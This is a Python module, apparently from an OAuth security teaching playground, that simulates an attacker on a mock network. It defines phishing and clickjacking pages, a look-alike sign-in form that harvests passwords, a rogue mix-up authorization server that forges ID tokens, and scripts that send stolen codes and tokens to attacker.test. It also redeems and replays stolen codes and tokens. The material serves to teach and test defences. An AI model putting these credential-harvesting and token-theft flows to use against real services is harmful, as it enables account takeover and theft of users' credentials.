"""The attacker: a site at `attacker.test` that keeps whatever
leaks to it, a browser of their own, and an HTTP client to spend the loot.

Everything the attacker touches crosses the virtual network, so the
transcript and the sequence diagram show the attack as its own lifeline.
"""

from __future__ import annotations

import base64
import hashlib
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import httpx
import jwt
from flask import Flask, jsonify, redirect, render_template_string, request

from mock_servers.keys import SigningKey
from playground.actors.browser import Browser, Clock
from playground.actors.dpop_proofs import make_proof
from playground.wire.exchange import Party
from playground.wire.network import Host, Network

ATTACKER_URL = "https://attacker.test"
# The attacker's own authorization server, for the mix-up attack (RFC 9700 4.4).
ATTACKER_AS_URL = "https://as.attacker.test"
# The "Coupon Finder" browser extension Mallory publishes.
EXTENSION_ORIGIN = "chrome-extension://couponfinder"

_PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>Free prints! - totally legit</title></head><body>
<h1>Win 100 free photo prints!</h1>
<p>Just sign in with your photo account below.</p>
<form id="sign-in" method="post" action="/photoprintz/sign-in">
<p><label>Username <input name="username"></label></p>
<p><label>Password <input name="password" type="password"></label></p>
<p><button type="submit">Sign in</button></p>
</form>
<img src="https://attacker.test/pixel.gif" alt="">
</body></html>"""

# Clickjacking (RFC 6749 10.13): the page the victim sees is the prize button;
# on top of it, fully transparent, is whatever page `url` is.
_FRAME_PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>Win 100 free prints! - totally legit</title>
<style>
#prize{position:relative;width:480px;height:360px}
#bait{position:absolute;top:250px;left:24px;font-size:1.5rem}
/* the framed page sits on top of the bait button, invisible */
#victim-frame{position:absolute;top:0;left:0;width:480px;height:360px;
border:0;opacity:0;z-index:2}
</style></head><body>
<h1>Win 100 free photo prints!</h1>
<div id="prize">
<form id="prize-form" method="post" action="/win">
<button id="bait" type="submit" name="prize" value="prints">Win free prints</button>
</form>
<iframe id="victim-frame" title="prize" src="{{ url }}"></iframe>
</div></body></html>"""


# PhotoPrintz's redirect URI, `/callback`: a friendly page for a code; for an
# error response, a copy of the real server's sign-in page (RFC 9700 4.11.2:
# the authorization server as the phisher's open redirector).
_PHOTOPRINTZ_PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>PhotoPrintz</title></head><body>
<h1>PhotoPrintz</h1><p>Welcome back! Your prints are on their way.</p>
</body></html>"""

_LOOK_ALIKE_SIGN_IN = """<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>Sign in - Playground Authorization Server</title></head>
<body><div class="card" id="login">
<h1>Sign in</h1>
<p>Your session has expired. Sign in to <strong>{{ issuer }}</strong> to
continue.</p>
<form method="post" action="/sign-in" id="login-form">
<p><label>Username <input name="username" autocomplete="username"></label></p>
<p><label>Password <input name="password" type="password"
 autocomplete="current-password"></label></p>
<p><button type="submit">Sign in</button></p>
</form>
</div></body></html>"""

_SIGNED_IN = """<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>Signed in - Playground Authorization Server</title></head><body>
<h1>Thank you</h1><p>Your account is confirmed. You can close this tab.</p>
</body></html>"""

# What the free-prints form answers once it has the password.
_PRINTS_ON_THE_WAY = """<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>Free prints! - totally legit</title></head><body>
<h1>Thank you!</h1><p>Your 100 free prints are being prepared.</p>
</body></html>"""

# What the prize button answers when it is pressed on its own.
_PRIZE_ENTERED = """<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>Win 100 free prints! - totally legit</title></head><body>
<h1>You are in the draw!</h1><p>We will write to you if you win.</p>
</body></html>"""

# A malicious app that took a native app's loopback port (RFC 8252 8.1)
# answers with a copy of that app's own page (world.loopback_listener), code
# or no code: nothing in the browser looks wrong.
_LOOPBACK_COPY = (
    "<!doctype html><title>Photo Uploader</title>"
    "<p>Photo Uploader received the answer. You can close this tab.</p>"
)
_LOOPBACK_HOSTS = frozenset({"127.0.0.1", "::1", "localhost"})

# QuickQuote, Mallory's price API at quotes.attacker.test: a price, as any
# client expects (and a log of every Authorization header it is sent).
PRINT_PRICE_CENTS = 30


@dataclass(frozen=True)
class Loot:
    """One thing that reached the attacker's site, and how it got there."""

    path: str
    via: str  # "query", "form", "referer"
    name: str
    value: str


@dataclass
class AttackerSite:
    """The attacker's web server: every request it gets is searched for loot."""

    loot: list[Loot] = field(default_factory=list)
    # The real authorization server, whose sign-in page the site copies.
    honest_issuer: str = "https://auth.photos.test"
    app: Flask = field(init=False)

    def __post_init__(self) -> None:
        self.app = self._create_app()

    def values(self, name: str) -> list[str]:
        """Every value of a parameter the site has received, oldest first."""
        return [item.value for item in self.loot if item.name == name]

    def _keep(self) -> None:
        for name, values in request.args.lists():
            self.loot.extend(Loot(request.path, "query", name, v) for v in values)
        for name, values in request.form.lists():
            self.loot.extend(Loot(request.path, "form", name, v) for v in values)
        referer = request.headers.get("Referer", "")
        parts = urlsplit(referer)
        for part in (parts.query, parts.fragment):
            for name, values in parse_qs(part).items():
                self.loot.extend(Loot(request.path, "referer", name, v) for v in values)

    def _create_app(self) -> Flask:
        app = Flask("attacker_site")

        @app.get("/frame")
        def frame() -> str:
            """`/frame?url=...`: the clickjacking page, framing `url` invisibly."""
            self._keep()
            return render_template_string(_FRAME_PAGE, url=request.args.get("url", ""))

        @app.route("/callback", methods=["GET", "POST"])
        def callback() -> str:
            """PhotoPrintz's redirect URI (a registered client of Mallory's),
            or, on a loopback address Mallory's app took, a native app's."""
            self._keep()
            if urlsplit(f"//{request.host}").hostname in _LOOPBACK_HOSTS:
                return _LOOPBACK_COPY
            if "error" in request.args:
                return render_template_string(
                    _LOOK_ALIKE_SIGN_IN, issuer=self.honest_issuer
                )
            return _PHOTOPRINTZ_PAGE

        @app.post("/sign-in")
        def sign_in() -> str:
            """Where the look-alike sign-in form posts: the password is loot."""
            self._keep()
            return _SIGNED_IN

        @app.post("/photoprintz/sign-in")
        def free_prints_sign_in() -> str:
            """Where the free-prints page's form posts: the password is loot."""
            self._keep()
            return _PRINTS_ON_THE_WAY

        @app.post("/win")
        def win() -> str:
            """The prize button, pressed on its own (no frame over it)."""
            self._keep()
            return _PRIZE_ENTERED

        @app.post("/report")
        @app.post("/collect")
        @app.post("/steal")
        @app.post("/upload")
        def collect() -> tuple[str, int]:
            """Where scripts, an extension, an SDK and a log uploader send
            what they read: kept, and answered with nothing."""
            self._keep()
            return "", 204

        @app.get("/api/quote")
        def quote() -> Any:
            """QuickQuote's price API."""
            self._keep()
            prints = request.args.get("prints", "1")
            count = int(prints) if prints.isdigit() else 1
            return jsonify(
                prints=count,
                price=f"{count * PRINT_PRICE_CENTS / 100:.2f}",
                currency="EUR",
            )

        @app.route("/", defaults={"path": ""}, methods=["GET", "POST"])
        @app.route("/<path:path>", methods=["GET", "POST"])
        def anything(path: str) -> tuple[str, int] | str:
            self._keep()
            if path.endswith(".gif"):
                return "", 204
            return _PAGE

        return app


@dataclass(frozen=True)
class Identity:
    """Whom Mallory's server says the user is: the claims of its ID tokens.
    She runs the server, so it says whatever she likes."""

    sub: str
    name: str
    email: str
    email_verified: bool = True


@dataclass(frozen=True)
class IssuedCode:
    """A code Mallory's server issued, and what its ID token will say."""

    client_id: str
    nonce: str | None
    scope: str


@dataclass
class MixUpAuthorizationServer:
    """Mallory's own authorization server at `as.attacker.test`,
    where PhotoPrint is registered too (RFC 9700 4.4, the mix-up attack).

    By default `/authorize` does not authorize anything: it sends the browser
    on to the honest authorization server with the very same parameters, so
    Alice signs in and approves at the real server, and `/token` keeps
    whatever code a confused client sends it (as the site's loot) and answers
    an error.

    Once Mallory has it `vouch_for` someone, it is an OpenID Provider of her
    own: `/authorize` issues a code at once, and `/token` answers with an ID
    token, signed with her key (published at `/jwks.json`), that says
    whatever she told it to.
    """

    site: AttackerSite
    honest_issuer: str
    signing_key: SigningKey | None = None
    clock: Clock | None = None
    identity: Identity | None = None
    codes: dict[str, IssuedCode] = field(default_factory=dict)
    app: Flask = field(init=False)

    def __post_init__(self) -> None:
        self.app = self._create_app()

    @property
    def issuer(self) -> str:
        return ATTACKER_AS_URL

    def vouch_for(
        self, *, sub: str, name: str, email: str, email_verified: bool = True
    ) -> Identity:
        """From now on, sign in whoever comes as this identity."""
        self.identity = Identity(sub, name, email, email_verified)
        return self.identity

    def _new_code(self) -> str:
        # Deterministic, so a replay of a lesson shows the same values.
        digest = hashlib.sha256(f"mallory-code-{len(self.codes)}".encode()).digest()
        return base64.urlsafe_b64encode(digest).decode().rstrip("=")

    def _id_token(self, issued: IssuedCode) -> str:
        assert self.identity is not None and self.signing_key is not None
        now = int(self.clock.now()) if self.clock else 0
        claims: dict[str, Any] = {
            "iss": self.issuer,
            "sub": self.identity.sub,
            "aud": issued.client_id,
            "iat": now,
            "exp": now + 3600,
            "name": self.identity.name,
            "email": self.identity.email,
            "email_verified": self.identity.email_verified,
        }
        if issued.nonce:
            claims["nonce"] = issued.nonce  # whatever the client asked for
        return jwt.encode(
            claims,
            self.signing_key.private_key,
            algorithm="RS256",
            headers={"kid": self.signing_key.kid},
        )

    def _create_app(self) -> Flask:
        app = Flask("attacker_authorization_server")

        @app.get("/authorize")
        def authorize():
            if self.identity is None:
                self.site._keep()
                # Same client_id, redirect_uri, state, scope (and PKCE, if
                # any): the real authorization server sees an ordinary request.
                query = urlencode(list(request.args.items(multi=True)))
                return redirect(f"{self.honest_issuer}/authorize?{query}", code=302)
            code = self._new_code()
            self.codes[code] = IssuedCode(
                request.args.get("client_id", ""),
                request.args.get("nonce"),
                request.args.get("scope", ""),
            )
            answer = {"code": code, "iss": self.issuer}
            if "state" in request.args:
                answer["state"] = request.args["state"]
            redirect_uri = request.args.get("redirect_uri", "")
            return redirect(f"{redirect_uri}?{urlencode(answer)}", code=302)

        @app.post("/token")
        def token():
            issued = self.codes.pop(request.form.get("code", ""), None)
            if issued is None or self.identity is None:
                self.site._keep()  # a code it never issued: loot (mix-up)
                return jsonify(
                    error="invalid_grant",
                    error_description="The code is invalid or has expired.",
                ), 400
            return jsonify(
                access_token=f"mallory-at-{self._new_code()[:16]}",
                token_type="Bearer",
                expires_in=3600,
                scope=issued.scope,
                id_token=self._id_token(issued),
            )

        @app.get("/jwks.json")
        def jwks():
            keys = self.signing_key.public_jwks() if self.signing_key else {"keys": []}
            return jsonify(keys)

        return app


class Attacker:
    """Mallory: their site, their browser, and a client to use stolen things."""

    def __init__(
        self,
        network: Network,
        issuer: str,
        api_url: str,
        clock: Clock | None = None,
        *,
        signing_key: SigningKey | None = None,
        dpop_key: SigningKey | None = None,
    ) -> None:
        self.clock = clock
        self.dpop_key = dpop_key
        self.site = AttackerSite(honest_issuer=issuer)
        # Mallory's own authorization server (mix-up), routed by the world.
        self.authorization_server = MixUpAuthorizationServer(
            self.site, issuer, signing_key=signing_key, clock=clock
        )
        self.network = network
        self.issuer = issuer
        self.api_url = api_url
        self.browser = Browser(network, party=Party.ATTACKER, clock=clock)
        self.http = network.client(Party.ATTACKER, user_agent="EvilBot/6.6")
        self.stolen: dict[str, str] = {}

    @property
    def url(self) -> str:
        return ATTACKER_URL

    @property
    def as_url(self) -> str:
        """The issuer of Mallory's own authorization server (mix-up)."""
        return ATTACKER_AS_URL

    def loot(self, name: str) -> list[str]:
        return self.site.values(name)

    def take_over_host(self, name: str) -> None:
        """Answer for a host name from now on: a malicious app on the same
        device that bound the native app's loopback port (or claimed its
        custom URL scheme) first, RFC 8252 8.1 / RFC 7636 1; or a service
        of Mallory's that other sites embed (a third-party analytics pixel)."""
        self.network.add_host(Host(name, Party.ATTACKER, self.site.app))

    def secrets_received(self) -> list[Loot]:
        """Loot that is worth something: codes, tokens, passwords."""
        valuable = {"code", "access_token", "refresh_token", "id_token", "password"}
        return [item for item in self.site.loot if item.name in valuable]

    def exfiltrate(self, browser: Browser, *, path: str = "/collect") -> None:
        """A script of the attacker's running in the victim's page reads the
        address bar (fragment included) and sends it home."""
        browser.fetch(
            f"{ATTACKER_URL}{path}",
            method="POST",
            data=_address_params(browser),
            mode="no-cors",
        )

    def extension_reports(self, browser: Browser, *, path: str = "/report") -> None:
        """A browser extension of Mallory's reads the tab's address (fragment
        included) and reports it home from its own origin, not the page's."""
        browser.fetch(
            f"{ATTACKER_URL}{path}",
            method="POST",
            data=_address_params(browser),
            mode="no-cors",
            origin=EXTENSION_ORIGIN,
        )

    def redeem_code(
        self,
        code: str,
        *,
        client_id: str,
        redirect_uri: str,
        code_verifier: str | None = None,
        client_secret: str | None = None,
    ) -> httpx.Response:
        """Try the stolen code at the token endpoint, as the victim's client."""
        data = {
            "grant_type": "authorization_code",
            "code": code,
            "redirect_uri": redirect_uri,
            "client_id": client_id,
        }
        if code_verifier:
            data["code_verifier"] = code_verifier
        auth = (client_id, client_secret) if client_secret else None
        if auth:
            data.pop("client_id")
        response = self.http.post(f"{self.issuer}/token", data=data, auth=auth)
        if response.status_code == 200:
            self.stolen.update(response.json())
        return response

    def token_request(
        self, data: dict[str, str], auth: tuple[str, str] | None = None
    ) -> httpx.Response:
        response = self.http.post(f"{self.issuer}/token", data=data, auth=auth)
        if response.status_code == 200:
            self.stolen.update(response.json())
        return response

    def call_api(self, path: str, access_token: str) -> httpx.Response:
        return self.http.get(
            f"{self.api_url}{path}", headers={"Authorization": f"Bearer {access_token}"}
        )

    def call_api_with_dpop(
        self,
        path: str,
        access_token: str,
        proof: str | None,
        *,
        method: str = "GET",
    ) -> httpx.Response:
        """A stolen DPoP-bound token with `Authorization: DPoP` (RFC 9449 7.1)
        and `proof` (a stolen one, or one Mallory signed) in the DPoP header."""
        headers = {"Authorization": f"DPoP {access_token}"}
        if proof is not None:
            headers["DPoP"] = proof
        return self.http.request(method, f"{self.api_url}{path}", headers=headers)

    def own_dpop_proof(
        self, method: str, path: str, access_token: str, *, jti: str
    ) -> str:
        """A proof for the stolen token, signed with Mallory's own DPoP key:
        everything right but the key (the token's cnf.jkt is the client's)."""
        assert self.dpop_key is not None, "Mallory has no DPoP key in this world"
        assert self.clock is not None
        return make_proof(
            self.dpop_key,
            method,
            f"{self.api_url}{path}",
            jti=jti,
            iat=self.clock.now(),
            access_token=access_token,
        )


def _address_params(browser: Browser) -> dict[str, str]:
    """The parameters in the address bar's query and fragment."""
    parts = urlsplit(browser.address)
    return {
        key: values[0]
        for part in (parts.query, parts.fragment)
        for key, values in parse_qs(part).items()
    }
